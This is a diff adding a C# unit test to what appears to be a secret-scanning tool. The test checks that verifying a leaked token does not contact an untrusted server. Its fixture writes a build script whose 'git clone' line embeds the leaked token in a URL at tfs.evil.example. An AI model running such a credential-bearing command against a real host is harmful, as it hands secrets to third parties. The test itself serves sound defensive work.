@@ -135,6 +135,20 @@ public sealed class RevokeTests : IDisposable
     }
 
     [Fact]
+    public void The_organization_that_stands_beside_the_token_is_enough_and_a_server_there_is_not()
+    {
+        incident.Live();
+        incident.Scan();
+        Assert.Contains("active in contoso", incident.Run("verify", "findings.sarif").Output, StringComparison.Ordinal);
+        var requests = incident.Service.Server.Requests.Count;
+
+        incident.Folder.Write("deploy/build.sh", $"git clone https://build:{incident.Leak}@tfs.evil.example/tfs/Main/_git/web\n");
+        incident.Scan();
+        Assert.Equal(4, incident.Run("verify", "findings.sarif").ExitCode);
+        Assert.Equal(requests, incident.Service.Server.Requests.Count);
+    }
+
+    [Fact]
     public void A_scan_verifies_what_it_finds_when_asked_to()
     {
         incident.Live();
